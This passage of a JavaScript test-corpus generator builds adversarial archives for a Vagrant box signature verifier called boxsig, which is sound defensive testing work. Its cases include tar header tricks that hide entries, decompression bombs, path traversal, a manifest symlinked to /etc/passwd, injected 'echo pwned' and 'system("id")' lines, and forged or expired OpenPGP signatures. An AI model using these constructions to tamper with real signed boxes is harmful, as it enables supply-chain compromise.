  add('gnu-longname-dangling', 'a GNU long name followed by the end-of-archive marker', [P, B, tar.gnuLong('n'.repeat(120)), E], {
    verify: 'MALFORMED',
    dir: 'ACCEPT',
  });

  // ---- header fields boxsig does not use, but extractors do
  {
    const rest = bodyEntries([byPath['metadata.json'], byPath['box-disk1.vmdk']]);
    const vfData = byPath.Vagrantfile.data;
    add(
      'gnu-realsize',
      'the signed Vagrantfile in a GNU header carrying a "real size" (which libarchive honours on any entry)',
      [P, rest, tar.file('Vagrantfile', vfData, { format: 'gnu', raw: [[483, Buffer.from(`${(vfData.length + 16).toString(8).padStart(11, '0')}\0`)]] }), E],
      {
        verify: 'MALFORMED',
        dir: 'TAMPERED',
      },
      { note: 'old boxsig verified it while bsdtar extracted a Vagrantfile 16 NUL bytes longer, with exit status 0' },
    );
    add(
      'gnu-isextended',
      'the signed Vagrantfile in a GNU header with the sparse "extended" flag set, hiding the next header',
      [P, rest, tar.file('Vagrantfile', vfData, { format: 'gnu', raw: [[482, Buffer.from([1])]] }), tar.file('hidden.sh', 'echo pwned\n'), E],
      {
        verify: 'MALFORMED',
        dir: 'UNLISTED_FILE',
      },
    );
    add(
      'numeric-garbage-uid',
      'garbage in the uid field of the signed Vagrantfile (GNU tar: "numeric uid_t value expected")',
      [P, rest, tar.file('Vagrantfile', vfData, { raw: [[108, Buffer.from('garbage\0')]] }), E],
      {
        verify: 'MALFORMED',
        dir: 'ACCEPT',
      },
      { note: 'bsdtar only checks the fields of the first header' },
    );
    add(
      'numeric-blank-mtime',
      'an mtime field of nothing but spaces (GNU tar: "Blanks in header")',
      [P, rest, tar.file('Vagrantfile', vfData, { raw: [[136, Buffer.from(' '.repeat(12))]] }), E],
      {
        verify: 'MALFORMED',
        dir: 'ACCEPT',
      },
    );
    add(
      'numeric-garbage-first-header',
      'garbage in the mode field of the first header (bsdtar cannot even open the archive)',
      [tar.dir('.boxsig/', { raw: [[100, Buffer.from('rwxr-xr\0')]] }), P.subarray(512), B, E],
      {
        verify: 'MALFORMED',
        dir: 'ACCEPT',
      },
      { note: 'bsdtar refuses the archive (vacuous)' },
    );
  }

  // ---- base-256 sizes
  add(
    'base256-larger',
    'Vagrantfile with a base-256 size larger than the manifest says',
    [
      P,
      bodyEntries([byPath['metadata.json'], byPath['box-disk1.vmdk']]),
      tar.file('Vagrantfile', Buffer.concat([byPath.Vagrantfile.data, Buffer.from('system("id")\n')]), { base256Size: true }),
      E,
    ],
    {
      verify: 'TAMPERED',
    },
  );
  add(
    'base256-negative',
    'a negative base-256 size',
    [P, B, tar.header({ name: 'neg.txt', rawSize: Buffer.from([0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x00]) }), E],
    { verify: 'MALFORMED', dir: 'ACCEPT' },
    { note: onlyTheBox },
  );
  add(
    'base256-huge',
    'a base-256 size of 2^80',
    [P, B, tar.header({ name: 'huge.img', rawSize: Buffer.from([0x80, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0]) }), E],
    { verify: 'MALFORMED', dir: 'ACCEPT' },
    { note: onlyTheBox },
  );

  // ---- sizes and truncation
  add(
    'file-larger-than-manifest',
    'Vagrantfile larger than the manifest says',
    [
      P,
      bodyEntries([
        byPath['metadata.json'],
        byPath['box-disk1.vmdk'],
        { path: 'Vagrantfile', data: Buffer.concat([byPath.Vagrantfile.data, Buffer.from('# more\n')]) },
      ]),
      E,
    ],
    {
      verify: 'TAMPERED',
    },
  );
  add(
    'file-smaller-than-manifest',
    'box-disk1.vmdk one byte shorter than the manifest says',
    [P, bodyEntries([byPath['metadata.json'], byPath.Vagrantfile, { path: 'box-disk1.vmdk', data: byPath['box-disk1.vmdk'].data.subarray(1) }]), E],
    {
      verify: 'TAMPERED',
    },
  );
  add(
    'file-bytes-changed',
    'one byte of the disk image changed',
    [
      P,
      bodyEntries([
        byPath['metadata.json'],
        byPath.Vagrantfile,
        { path: 'box-disk1.vmdk', data: Buffer.from(byPath['box-disk1.vmdk'].data).fill(0x41, 1000, 1001) },
      ]),
      E,
    ],
    {
      verify: 'TAMPERED',
    },
  );
  add('file-missing', 'the signed Vagrantfile is missing', [P, bodyEntries([byPath['metadata.json'], byPath['box-disk1.vmdk']]), E], {
    verify: 'MISSING_FILE',
  });
  const full = gz(Buffer.concat([P, B, E]));
  add(
    'truncated-gzip',
    'the gzip stream cut at 60%',
    full.subarray(0, Math.floor(full.length * 0.6)),
    { verify: 'MALFORMED', dir: 'ACCEPT' },
    { note: 'bsdtar fails on a truncated stream (vacuous)' },
  );
  add(
    'truncated-gzip-trailer',
    'the gzip trailer (CRC, size) cut off',
    full.subarray(0, full.length - 8),
    { verify: 'MALFORMED', dir: 'ACCEPT' },
    { note: 'the tar inside is whole' },
  );
  const plainFull = Buffer.concat([P, B, E]);
  add(
    'truncated-tar-in-data',
    'plain tar cut inside the disk image',
    plainFull.subarray(0, P.length + 10_000),
    { verify: 'MALFORMED', dir: 'ACCEPT' },
    { note: 'bsdtar fails on a truncated archive (vacuous)' },
  );
  add(
    'truncated-tar-no-end',
    'plain tar without its end-of-archive marker',
    Buffer.concat([P, B]),
    { verify: 'MALFORMED', dir: 'ACCEPT' },
    { note: 'every file is whole' },
  );
  add(
    'truncated-in-prefix',
    'plain tar cut inside .boxsig/manifest.json',
    plainFull.subarray(0, 1024 + 100),
    { verify: 'MALFORMED', dir: 'ACCEPT' },
    { note: onlyTheBox },
  );
  add('empty-file', 'a 0-byte box', Buffer.alloc(0), { verify: 'MALFORMED', dir: 'UNSIGNED' }, { note: 'an empty directory has no .boxsig/' });

  // ---- trailing data
  add(
    'garbage-after-gzip',
    'bytes after the end of the gzip stream',
    Buffer.concat([full, Buffer.from('GARBAGE AFTER THE GZIP STREAM\n')]),
    { verify: 'MALFORMED', dir: 'ACCEPT' },
    { note: 'bsdtar stops at the end-of-archive marker' },
  );
  add('gzip-member-of-garbage', 'a second gzip member holding non-tar bytes', Buffer.concat([full, gz(Buffer.from('not tar data'))]), {
    verify: 'MALFORMED',
    dir: 'ACCEPT',
  });
  add(
    'garbage-after-end-marker',
    'non-zero bytes after the end-of-archive marker, inside the gzip stream',
    [P, B, E, Buffer.from('GARBAGE'), Buffer.alloc(505)],
    { verify: 'MALFORMED', dir: 'ACCEPT' },
  );
  add(
    'entry-after-end-marker',
    'a hidden entry after the end-of-archive marker (tar -i would extract it)',
    [P, B, E, tar.file('after-end.sh', 'echo pwned\n'), E],
    { verify: 'MALFORMED', dir: 'ACCEPT' },
  );
  add('plain-garbage-after-end', 'plain tar with bytes after the end-of-archive marker', Buffer.concat([P, B, E, Buffer.from('garbage')]), {
    verify: 'MALFORMED',
    dir: 'ACCEPT',
  });

  // ---- decompression bombs (small on disk: 1 KiB of gzip per MiB of zeros)
  add(
    'bomb-zeros-after-end',
    '1 GiB of zeros after the end-of-archive marker',
    Buffer.concat([gz(Buffer.concat([P, B, E])), ...bombMembers(1024)]),
    { verify: 'MALFORMED', dir: 'ACCEPT' },
    { note: 'bsdtar stops at the end-of-archive marker' },
  );
  add(
    'bomb-unlisted-file',
    'an unlisted 8 GiB file (256 MiB of zeros actually present)',
    Buffer.concat([gz(Buffer.concat([P, B, tar.header({ name: 'bomb.img', size: 8 * 1024 ** 3 })])), ...bombMembers(256)]),
    {
      verify: 'UNLISTED_FILE',
      dir: 'SKIP',
    },
    { note: 'extraction would write 256 MiB; an unlisted file in a directory is covered by other cases' },
  );
  add(
    'bomb-listed-file-size',
    'the signed disk image declared as 8 GiB',
    Buffer.concat([
      gz(Buffer.concat([P, bodyEntries([byPath['metadata.json'], byPath.Vagrantfile]), tar.header({ name: 'box-disk1.vmdk', size: 8 * 1024 ** 3 })])),
      ...bombMembers(256),
    ]),
    {
      verify: 'TAMPERED',
      dir: 'SKIP',
    },
    { note: 'extraction would write 256 MiB; a size mismatch in a directory is covered by other cases' },
  );
  add(
    'bomb-unsigned',
    'an unsigned box holding 1 GiB of zeros',
    Buffer.concat([gz(bodyEntries([byPath['metadata.json']])), gz(tar.header({ name: 'bomb.img', size: 1024 ** 3 })), ...bombMembers(1024), gz(E)]),
    {
      verify: 'UNSIGNED',
      dir: 'SKIP',
    },
    { note: 'extraction would write 1 GiB; an unsigned directory is covered by empty-file' },
  );
  add(
    'bomb-pax-header',
    'a pax header declared as 1 GiB (64 MiB present)',
    Buffer.concat([gz(Buffer.concat([P, tar.header({ name: 'PaxHeaders/x', type: 'x', size: 1024 ** 3 })])), ...bombMembers(64, 0x41)]),
    {
      verify: 'MALFORMED',
      dir: 'ACCEPT',
    },
    { note: 'bsdtar fails on the truncated header (vacuous)' },
  );
  {
    // metadata-only global headers are otherwise accepted: thousands of them must not be inflated without limit
    const g = tar.pax(tar.paxRecords([['comment', 'g'.repeat(60 * 1024)]]), { global: true });
    const member = gz(Buffer.concat(Array.from({ length: 64 }, () => g)));
    add(
      'bomb-global-headers',
      '4096 pax global headers of 60 KiB each (240 MiB) before .boxsig/',
      Buffer.concat([...Array.from({ length: 64 }, () => member), gz(Buffer.concat([P, B, E]))]),
      {
        verify: 'MALFORMED',
        dir: 'ACCEPT',
      },
      { note: 'the headers carry only a comment: the extracted directory is the signed box' },
    );
  }
  {
    // a 100 MB manifest (spaces): refused at its header, before its data is read
    const size = 100 * 1000 * 1000;
    const head = gz(Buffer.concat([tar.dir('.boxsig/'), tar.header({ name: '.boxsig/manifest.json', size })]));
    const chunks = bombMembers(Math.floor(size / MiB), 0x20);
    const rest = size - Math.floor(size / MiB) * MiB;
    add('manifest-100mb', 'a 100 MB .boxsig/manifest.json', Buffer.concat([head, ...chunks, gz(Buffer.concat([tar.pad(Buffer.alloc(rest, 0x20)), B, E]))]), {
      verify: 'MALFORMED',
    });
  }

  // ---- boxsig's leading gzip member, then the original box (the layout `boxsig sign` writes)
  {
    const L = leadingMember(P);
    const body = Buffer.concat([B, E]);
    const member = gz(body);
    const edit = (buf, at, fn) => {
      const b = Buffer.from(buf);
      b[at < 0 ? b.length + at : at] = fn(b[at < 0 ? b.length + at : at]);
      return b;
    };
    add('lead-valid', 'control: leading .boxsig member, then the original gzip box', Buffer.concat([L, member]), { verify: 'ACCEPT', dir: 'ACCEPT' });
    add(
      'lead-body-crc-wrong',
      'the CRC-32 in the trailer of the member after the leading one is wrong',
      Buffer.concat([L, edit(member, -8, (x) => x ^ 0xff)]),
      { verify: 'ACCEPT', dir: 'ACCEPT' },
      { note: 'every file is checked against the signed SHA-256, a stronger check of the same bytes; bsdtar ignores the CRC too' },
    );
    add(
      'lead-body-isize-wrong',
      'the size in the trailer of the member after the leading one is wrong',
      Buffer.concat([L, edit(member, -1, (x) => x ^ 0x01)]),
      {
        verify: 'MALFORMED',
        dir: 'ACCEPT',
      },
    );
    add('lead-body-no-trailer', 'the member after the leading one has no trailer', Buffer.concat([L, member.subarray(0, member.length - 8)]), {
      verify: 'MALFORMED',
      dir: 'ACCEPT',
    });
    add('lead-body-half-trailer', 'the member after the leading one ends inside its trailer', Buffer.concat([L, member.subarray(0, member.length - 3)]), {
      verify: 'MALFORMED',
      dir: 'ACCEPT',
    });
    add(
      'lead-body-truncated',
      'the member after the leading one is cut in its deflate data',
      Buffer.concat([L, member.subarray(0, Math.floor(member.length / 2))]),
      { verify: 'MALFORMED', dir: 'ACCEPT' },
      { note: 'bsdtar fails on a truncated stream (vacuous)' },
    );
    add('lead-only', 'only the leading .boxsig member', L, { verify: 'MALFORMED', dir: 'MISSING_FILE' }, { note: 'bsdtar extracts .boxsig/ alone' });
    add('lead-body-garbage-after', 'bytes after the member that follows the leading one', Buffer.concat([L, member, Buffer.from('GARBAGE')]), {
      verify: 'MALFORMED',
      dir: 'ACCEPT',
    });
    add('lead-body-zeros-after', 'zero bytes after the member that follows the leading one', Buffer.concat([L, member, Buffer.alloc(1024)]), {
      verify: 'MALFORMED',
      dir: 'ACCEPT',
    });
    add(
      'lead-body-three-members',
      'the original box in three gzip members',
      Buffer.concat([L, gz(body.subarray(0, 700)), gz(body.subarray(700, 20_000)), gz(body.subarray(20_000))]),
      {
        verify: 'ACCEPT',
        dir: 'ACCEPT',
      },
    );
    add(
      'lead-body-third-member-bad',
      'the third member (of the original box) is corrupt',
      Buffer.concat([L, gz(body.subarray(0, 700)), edit(gz(body.subarray(700)), 40, (x) => x ^ 0x55)]),
      { verify: 'MALFORMED', dir: 'ACCEPT' },
      { note: 'bsdtar fails on the corrupt member (vacuous)' },
    );
    add(
      'lead-body-header-fields',
      'the member after the leading one has a name, a comment, an extra field and a header CRC',
      Buffer.concat([L, gzMember(body, { name: 'ubuntu.tar', comment: 'built by packer', extra: Buffer.from('AB\x02\x00hi', 'latin1'), hcrc: true })]),
      { verify: 'ACCEPT', dir: 'ACCEPT' },
    );
    add(
      'lead-body-header-crc-wrong',
      'the member after the leading one has a wrong header CRC',
      Buffer.concat([L, edit(gzMember(body, { name: 'ubuntu.tar', hcrc: true }), 21, (x) => x ^ 0xff)]),
      { verify: 'MALFORMED', dir: 'ACCEPT' },
      { note: 'bsdtar ignores the header CRC' },
    );
    add('lead-body-reserved-flag', 'the member after the leading one sets a reserved header flag', Buffer.concat([L, gzMember(body, { flags: 0x20 })]), {
      verify: 'MALFORMED',
      dir: 'MISSING_FILE',
    });
    add('lead-body-method', 'the member after the leading one names compression method 7', Buffer.concat([L, gzMember(body, { method: 7 })]), {
      verify: 'MALFORMED',
      dir: 'MISSING_FILE',
    });
    add(
      'lead-body-name-unterminated',
      'the member after the leading one has a file name that never ends',
      Buffer.concat([L, Buffer.from([0x1f, 0x8b, 8, 8, 0, 0, 0, 0, 0, 3]), Buffer.alloc(64 * 1024, 0x41)]),
      { verify: 'MALFORMED', dir: 'MISSING_FILE' },
      { note: 'bsdtar stops at the bad member: .boxsig/ alone is extracted' },
    );
    add(
      'lead-length-wrong',
      "the leading member's recorded length is wrong (readers may ignore it)",
      Buffer.concat([
        (() => {
          const b = Buffer.from(L);
          b.writeBigUInt64LE(BigInt(L.length + 5), 17);
          return b;
        })(),
        member,
      ]),
      { verify: 'ACCEPT', dir: 'ACCEPT' },
    );
    add(
      'lead-unsigned-body-crc-wrong',
      'a leading gzip member without .boxsig/ entries, then a member with a wrong CRC',
      Buffer.concat([
        leadingMember(bodyEntries([byPath['metadata.json']])),
        edit(gz(Buffer.concat([bodyEntries([byPath.Vagrantfile]), E])), -8, (x) => x ^ 0xff),
      ]),
      { verify: 'UNSIGNED', dir: 'UNSIGNED' },
    );
  }

  // ---- .boxsig/ placement
  add(
    'boxsig-last',
    '.boxsig/ placed after the files of the box',
    [B, P, E],
    { verify: 'UNSIGNED', dir: 'ACCEPT' },
    { note: 'extracted, it is the signed box (the archive form is refused: .boxsig/ must lead)' },
  );
  const evilFiles = [byPath['metadata.json'], { path: 'Vagrantfile', data: evilVagrantfile }, byPath['box-disk1.vmdk']];
  const evilManifest = manifestFor(evilFiles);
  add('boxsig-twice-body', 'a second .boxsig/manifest.json after the body', [P, B, tar.file('.boxsig/manifest.json', evilManifest), E], {
    verify: 'DUPLICATE_ENTRY',
    dir: 'BAD_SIGNATURE',
  });
  add(
    'boxsig-twice-prefix',
    '.boxsig/manifest.json twice in the leading entries',
    [await signedPrefix(base, { extra: [tar.file('.boxsig/manifest.json', evilManifest)] }), B, E],
    { verify: 'DUPLICATE_ENTRY', dir: 'BAD_SIGNATURE' },
  );
  {
    // an old signed member left in front of a re-signed one
    const other = await newKey({ uid: 'second signer' });
    const Pother = await signedPrefix(evilFiles, { signer: other });
    add(
      'boxsig-two-members',
      'two leading .boxsig/ members (two signed manifests)',
      Buffer.concat([gz(P), gz(Pother), gz(Buffer.concat([bodyEntries(evilFiles), E]))]),
      {
        verify: 'DUPLICATE_ENTRY',
        dir: 'BAD_SIGNATURE',
      },
      { note: "extracted: the second manifest next to both signature files; the pinned key's signature is over the first" },
    );
  }
  add(
    'boxsig-no-manifest',
    '.boxsig/ with a signature but no manifest',
    [
      Buffer.concat([
        tar.dir('.boxsig/'),
        tar.dir('.boxsig/signatures/'),
        tar.file(`.boxsig/signatures/${FPR}.asc`, await signDetached(manifestFor(base), key)),
      ]),
      B,
      E,
    ],
    { verify: 'MALFORMED' },
  );
  add(
    'boxsig-unexpected-file',
    'an unexpected file .boxsig/hook.sh',
    [await signedPrefix(base, { extra: [tar.file('.boxsig/hook.sh', 'echo pwned\n')] }), B, E],
    { verify: 'MALFORMED' },
  );
  add(
    'boxsig-nested-dir',
    'an unexpected directory .boxsig/signatures/sub/',
    [await signedPrefix(base, { extra: [tar.dir('.boxsig/signatures/sub/')] }), B, E],
    { verify: 'MALFORMED', dir: 'MALFORMED' },
  );
  add(
    'boxsig-manifest-symlink',
    '.boxsig/manifest.json is a symlink',
    [tar.dir('.boxsig/'), tar.header({ name: '.boxsig/manifest.json', type: '2', linkname: '/etc/passwd' }), B, E],
    { verify: 'UNSAFE_ENTRY' },
  );

  // ---- manifests
  {
    const deep = Buffer.from('['.repeat(100_000) + ']'.repeat(100_000));
    add('manifest-deep-json', 'a validly signed manifest nested 100000 levels deep', [await signedPrefix(base, { manifest: deep }), B, E], {
      verify: 'MALFORMED',
    });
    const notJson = Buffer.from('{"format":1,');
    add('manifest-not-json', 'a validly signed manifest that is not JSON', [await signedPrefix(base, { manifest: notJson }), B, E], { verify: 'MALFORMED' });
    const spaced = Buffer.from(JSON.stringify(JSON.parse(manifestFor(base).toString()), null, 2));
    add('manifest-not-canonical', 'a validly signed manifest in non-canonical JSON', [await signedPrefix(base, { manifest: spaced }), B, E], {
      verify: 'MALFORMED',
    });
    const m = JSON.parse(manifestFor(base).toString());
    m.files.push({ path: '../escaped/x', size: 1, sha256: '0'.repeat(64) });
    add('manifest-unsafe-path', 'a validly signed manifest listing ../escaped/x', [await signedPrefix(base, { manifest: Buffer.from(canonical(m)) }), B, E], {
      verify: 'MALFORMED',
    });
    const dupKeys = Buffer.from(manifestFor(base).toString().replace('{"box":', '{"box":{"name":"evil/box","provider":"virtualbox","version":"9.9.9"},"box":'));
    add('manifest-duplicate-keys', 'a validly signed manifest with a duplicate "box" key', [await signedPrefix(base, { manifest: dupKeys }), B, E], {
      verify: 'MALFORMED',
    });
  }
  add(
    'manifest-expired',
    'a validly signed manifest that expired yesterday',
    [await signedPrefix(base, { manifestOpts: { created: new Date(Date.now() - 3 * DAY), expires: new Date(Date.now() - DAY) } }), B, E],
    { verify: 'EXPIRED' },
  );
  add(
    'manifest-other-name',
    'a validly signed manifest for another box name',
    [await signedPrefix(base, { manifestOpts: { box: { name: 'corpus/other' } } }), B, E],
    { verify: 'WRONG_BOX' },
  );
  add('unsigned', 'no .boxsig/ at all', [B, E], { verify: 'UNSIGNED' });

  // ---- OpenPGP oddities
  const manifest = manifestFor(base);
  const sigCase = async (id, description, opts, expect) => {
    const signer = opts.signer ?? key;
    const prefix = prefixEntries({
      manifest: opts.manifest ?? manifest,
      signatures: [{ fpr: opts.sigFpr ?? fpr(signer), armored: opts.armored }],
      keys: opts.noKey ? [] : [{ fpr: opts.keyFpr ?? fpr(signer), armored: opts.publicKey ?? armoredPublic(signer) }],
    });
    add(id, description, [prefix, B, E], expect, { pin: opts.pin ?? fpr(signer) });
  };
  await sigCase(
    'sig-text-type',
    'a text-mode signature (type 0x01) instead of binary',
    { armored: armorSignatures([await rawSignature(key.keyPacket, manifest, { type: openpgp.enums.signature.text })]) },
    { verify: 'BAD_SIGNATURE' },
  );
  await sigCase(
    'sig-standalone-type',
    'a standalone signature (type 0x02)',
    {
      armored: await (async () => {
        const sig = new openpgp.SignaturePacket();
        sig.signatureType = openpgp.enums.signature.standalone;
        sig.publicKeyAlgorithm = key.keyPacket.algorithm;
        sig.hashAlgorithm = openpgp.enums.hash.sha512;
        await sig.sign(key.keyPacket, {}, new Date(), true, PGP);
        return armorSignatures([sig]);
      })(),
    },
    { verify: 'BAD_SIGNATURE' },
  );
  {
    // a signing-capable (EdDSA) subkey bound with the authentication flag only
    const k = await newKey({ uid: 'auth subkey', subkeys: [{ sign: true }] });
    const sub = k.subkeys[0];
    sub.bindingSignatures = [await bindSubkey(k, sub, openpgp.enums.keyFlags.authentication, new Date(Date.now() - 1000))];
    await sigCase(
      'sig-subkey-not-for-signing',
      'signed by a subkey without the signing flag (authentication only)',
      { signer: k, armored: armorSignatures([await rawSignature(sub.keyPacket, manifest)]) },
      { verify: 'BAD_SIGNATURE' },
    );
  }
  {
    const created = new Date(Date.now() - 30 * DAY);
    const k = await newKey({ uid: 'expired subkey', date: created, subkeys: [{ sign: true, keyExpirationTime: DAY / 1000 }] });
    await sigCase(
      'sig-subkey-expired',
      'signed (today) by a signing subkey that expired a month ago',
      { signer: k, armored: armorSignatures([await rawSignature(k.subkeys[0].keyPacket, manifest)]) },
      { verify: 'KEY_EXPIRED' },
    );
  }
  {
    const k = await newKey({ uid: 'revoked subkey', date: new Date(Date.now() - 10 * DAY), subkeys: [{ sign: true }] });
    k.subkeys[0] = await k.subkeys[0].revoke(
      k.keyPacket,
      { flag: openpgp.enums.reasonForRevocation.keyCompromised, string: 'stolen' },
      new Date(Date.now() - DAY),
      PGP,
    );
    await sigCase(
      'sig-subkey-revoked',
      'signed by a signing subkey revoked (compromised) yesterday',
      { signer: k, armored: armorSignatures([await rawSignature(k.subkeys[0].keyPacket, manifest)]) },
      { verify: 'KEY_REVOKED' },
    );
  }
  {
    const k = await newKey({ uid: 'revoked primary', date: new Date(Date.now() - 10 * DAY) });
    const revoked = await k.revoke({ flag: openpgp.enums.reasonForRevocation.keyCompromised, string: 'stolen' }, new Date(Date.now() - DAY), PGP);
    await sigCase(
      'sig-primary-revoked',
      'signed by a primary key revoked (compromised) yesterday; the revocation is in the box',
      { signer: k, publicKey: armoredPublic(revoked), armored: armorSignatures([await rawSignature(k.keyPacket, manifest)]) },
      { verify: 'KEY_REVOKED' },
    );
  }
  {
    const k = await newKey({ uid: 'expired primary', date: new Date(Date.now() - 30 * DAY), keyExpirationTime: DAY / 1000 });
    await sigCase(
      'sig-primary-expired',
      'signed today by a primary key that expired a month ago',
      { signer: k, armored: armorSignatures([await rawSignature(k.keyPacket, manifest)]) },
      { verify: 'KEY_EXPIRED' },
    );
  }
  {
    // the self-signature no longer matches: the user ID was changed after signing
    const k = await newKey({ uid: 'honest builder' });
    const pub = k.toPublic();
    pub.users[0].userID.userID = 'Mallory the trusted builder <builds@acme.example>';
    pub.users[0].userID.name = 'Mallory the trusted builder';
    await sigCase(
      'key-broken-self-signature',
      'a key whose only self-signature does not verify (user ID edited)',
      { signer: k, publicKey: pub.armor(PGP), armored: await signDetached(manifest, k) },
      { verify: 'BAD_SIGNATURE' },
    );
  }
  {
    // a signing subkey whose binding signature is corrupt
    const k = await newKey({ uid: 'broken binding', subkeys: [{ sign: true }] });
    const pub = k.toPublic();
    const bs = pub.subkeys[0].bindingSignatures[0];
    bs.signedHashValue = new Uint8Array([bs.signedHashValue[0] ^ 0xff, bs.signedHashValue[1]]);
    await sigCase(
      'key-broken-subkey-binding',
      'signed by a subkey whose binding signature is corrupt',
      { signer: k, publicKey: pub.armor(PGP), armored: armorSignatures([await rawSignature(k.subkeys[0].keyPacket, manifest)]) },
      { verify: 'BAD_SIGNATURE' },
    );
  }
  await sigCase(
    'sig-wrong-bytes',
    'a valid signature over other bytes (the manifest of another version)',
    { armored: await signDetached(manifestFor(base, { box: { version: '0.9.0' } }), key) },
    { verify: 'BAD_SIGNATURE' },
  );
  {
    const a = await signDetached(manifest, key);
    await sigCase('sig-two-armor-blocks', 'two armored signatures in one file', { armored: a + a }, { verify: 'MALFORMED' });
    const s1 = await rawSignature(key.keyPacket, manifest);
    const s2 = await rawSignature(key.keyPacket, manifest, { date: new Date(Date.now() - 1000) });
    await sigCase('sig-two-packets', 'two signature packets in one armored block', { armored: armorSignatures([s1, s2]) }, { verify: 'MALFORMED' });
    const other = await newKey({ uid: 'other' });
    await sigCase(
      'sig-by-other-key',
      "another key's valid signature in the pinned key's file",
      { armored: await signDetached(manifest, other) },
      { verify: 'BAD_SIGNATURE' },
    );
    await sigCase(
      'sig-file-wrong-name',
      "the pinned key's valid signature filed under another fingerprint",
      { sigFpr: fpr(other), armored: a, noKey: true, pin: FPR },
      { verify: 'UNTRUSTED_KEY' },
    );
    await sigCase(
      'sig-future',
      'a signature created tomorrow',
      { armored: armorSignatures([await rawSignature(key.keyPacket, manifest, { date: new Date(Date.now() + DAY) })]) },
      { verify: 'BAD_SIGNATURE' },
    );
    await sigCase(
      'sig-garbage',
      'a signature file that is not OpenPGP',
      { armored: '-----BEGIN PGP SIGNATURE-----\n\nbm90IGEgc2lnbmF0dXJl\n-----END PGP SIGNATURE-----\n' },
      { verify: 'MALFORMED' },
    );
    await sigCase('sig-is-a-key', 'a public key in the signature file', { armored: armoredPublic(key) }, { verify: 'MALFORMED' });
    await sigCase(
      'key-file-other-key',
      'the key file holds another key than its name says',
      { armored: a, publicKey: armoredPublic(other) },
      { verify: 'MALFORMED' },
    );
    await sigCase(
      'key-file-two-keys',
      'the key file holds two keys',
      { armored: a, publicKey: armoredPublic(key) + armoredPublic(other) },
      { verify: 'MALFORMED' },
    );
    await sigCase(
      'key-missing',
      'a valid signature whose key is neither in the box nor in the keyring',
      { armored: a, noKey: true },
      { verify: 'UNTRUSTED_KEY' },
    );
  }

  const corpus = { identity: IDENTITY, pin: FPR, escaped: 'escaped', victim: 'victim/secret.txt', generatedIn: Date.now() - started, cases };
  fs.writeFileSync(path.join(outDir, 'manifest.json'), JSON.stringify(corpus, null, 2) + '\n');
  return corpus;
}

if (process.argv[1] && path.resolve(process.argv[1]) === fileURLToPath(import.meta.url)) {
  const out = process.argv[2];
  if (!out) {
    console.error('usage: node test/corpus/generate.mjs OUTDIR');
    process.exit(2);
  }
  const c = await generateCorpus(out);
  let bytes = 0;
  for (const k of c.cases) bytes += fs.statSync(path.join(out, k.file)).size;
  console.log(`${c.cases.length} cases, ${(bytes / MiB).toFixed(1)} MiB, generated in ${c.generatedIn} ms -> ${path.resolve(out)}`);
}
